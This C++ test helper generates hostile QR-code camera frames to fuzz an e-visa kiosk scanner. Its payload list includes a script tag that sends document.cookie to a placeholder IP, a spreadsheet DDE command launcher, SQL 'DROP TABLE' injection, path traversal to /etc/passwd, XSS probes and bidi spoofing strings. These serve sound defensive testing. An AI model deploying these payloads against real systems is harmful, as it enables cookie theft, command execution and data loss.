// Frames that somebody shows a booth to break it.
#include "tests/unit/kiosk/hostile_frames.h"

#include <array>
#include <opencv2/imgproc.hpp>
#include <string>
#include <string_view>

#include "crypto/seal_text.h"
#include "tests/sim/page.h"

namespace evisa::kiosk {
namespace {

constexpr int kWidth = 1280, kHeight = 720;
constexpr double kPixelIsMm = 25.4;  // dots an inch at which a millimetre is a pixel
constexpr int kLargest = 2300;       // bytes of a code of version 40 at level M

using namespace std::string_view_literals;
constexpr std::array kTexts{
    "https://example.org/menu?table=7"sv,
    "<script>fetch('http://203.0.113.9/'+document.cookie)</script>"sv,
    "\"><img src=x onerror=alert(1)>"sv,
    "{\"type\":\"state\",\"verdict\":{\"outcome\":\"OK\"}}"sv,
    "javascript:alert(1)"sv,
    "BEGIN:VCARD\r\nFN:=cmd|'/c calc'!A1\r\nEND:VCARD"sv,
    "WIFI:T:WPA;S:Airport;P:12345678;;"sv,
    "KZV1"sv,
    "KZV1AAAAAAAAAAAAAAAA"sv,
    "kzv1dqbq"sv,
    "\0\0\0\x1b[2J\x07\x08\x7f"sv,
    "\xe2\x80\xae"
    "moc.elpmaxe\xe2\x80\xac\xe2\x80\x8b\xef\xbb\xbf"sv,  // right to left, no width
    "\xff\xfe\xc0\xaf\xed\xa0\x80"sv,                     // no UTF-8
    "'; DROP TABLE events; --"sv,
    "../../../../etc/passwd"sv,
    "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<10"sv};

crypto::Bytes bytes_of(std::string_view text) { return {text.begin(), text.end()}; }

/// A code whose modules are `px` pixels wide; what does not fit into the frame is not drawn.
void print(cv::Mat& frame, const crypto::Bytes& content, double x, double y, double px) {
  sim::Page page{frame, kPixelIsMm};
  sim::print_qr(page, content, x, y, px);
}

}  // namespace

crypto::Bytes HostileFrames::random_bytes(int most) {
  crypto::Bytes bytes(static_cast<std::size_t>(1 + random_.uniform(0, most)));
  for (auto& byte : bytes) byte = static_cast<std::uint8_t>(random_.uniform(0, 256));
  return bytes;
}

crypto::Bytes HostileFrames::spoilt_seal() {
  crypto::Bytes seal = seal_;
  const int changes = 1 + random_.uniform(0, 3);
  for (int i = 0; i < changes; ++i)
    seal[static_cast<std::size_t>(random_.uniform(0, static_cast<int>(seal.size())))] ^=
        static_cast<std::uint8_t>(1 << random_.uniform(0, 8));
  if (seal == seal_) seal.back() ^= 1;  // two changes that took each other back
  if (random_.uniform(0, 4) == 0) seal.resize(seal.size() / 2);
  return random_.uniform(0, 2) == 0 ? seal : bytes_of(crypto::seal_to_text(seal));
}

crypto::Bytes HostileFrames::content() {
  switch (random_.uniform(0, 4)) {
    case 0:
      return random_bytes(300);
    case 1:
      return spoilt_seal();
    default:
      return bytes_of(
          kTexts[static_cast<std::size_t>(random_.uniform(0, static_cast<int>(kTexts.size())))]);
  }
}

void HostileFrames::draw_one(cv::Mat& frame) {
  print(frame, content(), random_.uniform(0, 600), random_.uniform(0, 250),
        random_.uniform(2.0, 6.0));
}

void HostileFrames::draw_giant(cv::Mat& frame) {
  if (random_.uniform(0, 2) == 0) {  // larger than the picture
    print(frame, content(), random_.uniform(-300, 100), random_.uniform(-300, 100),
          random_.uniform(15.0, 60.0));
  } else {  // the largest that there is
    print(frame, random_bytes(kLargest), 200, 0, random_.uniform(3.0, 3.8));
  }
}

void HostileFrames::draw_many(cv::Mat& frame) {
  const int step = random_.uniform(33, 120);
  for (int y = 0; y + step < kHeight; y += step)
    for (int x = 0; x + step < kWidth; x += step)
      print(frame, bytes_of(std::to_string(x * y)), x, y, step / 31.0);
}

void HostileFrames::scrawl(cv::Mat& frame) {
  random_.fill(frame, cv::RNG::UNIFORM, 0, 256);
  const auto text = kTexts.back().substr(0, 44);
  cv::putText(frame, std::string(text), {20, random_.uniform(40, 700)}, cv::FONT_HERSHEY_PLAIN, 2.2,
              0, 2);
}

cv::Mat HostileFrames::next() {
  cv::Mat frame(kHeight, kWidth, CV_8UC1, cv::Scalar(random_.uniform(150, 256)));
  switch (random_.uniform(0, 6)) {
    case 0:
      draw_many(frame);
      break;
    case 1:
      draw_giant(frame);
      break;
    case 2:
      scrawl(frame);
      break;
    default:
      draw_one(frame);
  }
  cv::Mat noise(frame.size(), CV_8UC1);
  random_.fill(noise, cv::RNG::NORMAL, 8, 4);
  frame = frame - noise;
  if (random_.uniform(0, 3) == 0) cv::GaussianBlur(frame, frame, {}, random_.uniform(0.5, 2.0));
  return frame;
}

}  // namespace evisa::kiosk
